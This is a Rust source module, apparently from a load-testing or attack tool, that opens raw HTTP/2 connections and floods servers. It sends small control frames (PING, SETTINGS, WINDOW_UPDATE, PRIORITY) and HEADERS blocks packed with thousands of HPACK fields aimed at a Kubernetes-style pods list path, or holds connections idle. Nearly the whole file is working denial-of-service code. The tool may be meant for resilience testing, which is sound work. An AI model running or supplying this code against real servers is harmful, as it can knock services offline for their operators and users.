//! Raw HTTP/2 connections: floods of small frames that request nothing but cost work, heads of many fields, and no frames at all. The
//! server's answers are read and dropped.

use std::borrow::Cow;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{Attack, AttackClient, OpenConnection, count};

/// The preface, SETTINGS without any setting, and a window of a gigabyte.
const OPENING: &[u8] =
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0\x04\x08\0\0\0\0\0\x40\0\0\0";
const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0attacker";
const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
/// For the connection, by one byte: the window does not overflow in any run.
const WINDOW_UPDATE: &[u8] = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01";
/// For a stream that is not open.
const PRIORITY: &[u8] = b"\0\0\x05\x02\0\0\0\0\x03\0\0\0\0\x10";
/// The field `accept-encoding: gzip, deflate` as HPACK's static table has it.
const ACCEPT_ENCODING: u8 = 0x90;
/// Fields of a head, as many as fit into the length that servers allow.
const FIELDS: usize = 2_000;
/// A version that no list reaches.
const FUTURE: u64 = 999_999_999;
/// How often a client sends the frames that are due.
const SEND_EVERY: Duration = Duration::from_millis(10);

/// For each stream the head of a list that waits for a version, with many fields of a byte each: an index into HPACK's static table.
fn heads(streams: impl Iterator<Item = u32>) -> Vec<u8> {
    let path = format!("/api/v1/pods?resourceVersion={FUTURE}");
    // The method GET, the scheme http, a path and an authority.
    let mut block = vec![0x82, 0x86, 0x04, u8::try_from(path.len()).unwrap_or(0)];
    block.extend_from_slice(path.as_bytes());
    block.extend_from_slice(b"\x01\x01a");
    block.resize(block.len() + FIELDS, ACCEPT_ENCODING);
    let len = u32::try_from(block.len()).unwrap_or(0).to_be_bytes();
    let mut frames = Vec::new();
    for stream in streams {
        frames.extend_from_slice(&len[1..]);
        // HEADERS with END_HEADERS and END_STREAM.
        frames.extend_from_slice(&[0x01, 0x05]);
        frames.extend_from_slice(&stream.to_be_bytes());
        frames.extend_from_slice(&block);
    }
    frames
}

/// One connection, until the server closes it.
pub(super) async fn flood(client: Arc<AttackClient>) -> Result<()> {
    let state = &*client.state;
    let mut streams = (1..).step_by(2);
    let frame = match state.flags.attack {
        Attack::Settings => SETTINGS,
        Attack::WindowUpdates => WINDOW_UPDATE,
        Attack::Priorities => PRIORITY,
        _ => PING,
    };
    let each_s = state.flags.rate / state.flags.clients.max(1) as f64;
    let frames = (each_s * SEND_EVERY.as_secs_f64()).ceil().max(1.0) as usize;
    let batch = frame.repeat(frames);
    let target = &state.flags.target;
    let stream = target.connect_from(client.source(), "h2").await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    writer.write_all(OPENING).await?;
    let _open = OpenConnection::of(state);
    client.start();
    let sending = async {
        let mut tick = tokio::time::interval(SEND_EVERY);
        loop {
            tick.tick().await;
            let batch = match state.flags.attack {
                Attack::IdleConnections => std::future::pending().await,
                Attack::ManyFields => Cow::Owned(heads(streams.by_ref().take(frames))),
                _ => Cow::Borrowed(&batch[..]),
            };
            if writer.write_all(&batch).await.is_err() {
                return;
            }
            let done = &state.counts.done;
            done.fetch_add(frames as u64, Ordering::Relaxed);
        }
    };
    let reading = async {
        let mut buffer = vec![0; 64 << 10];
        while reader.read(&mut buffer).await.is_ok_and(|len| len > 0) {}
    };
    tokio::select! {
        () = sending => {}
        () = reading => {}
    }
    count(&state.counts.closed);
    Ok(())
}
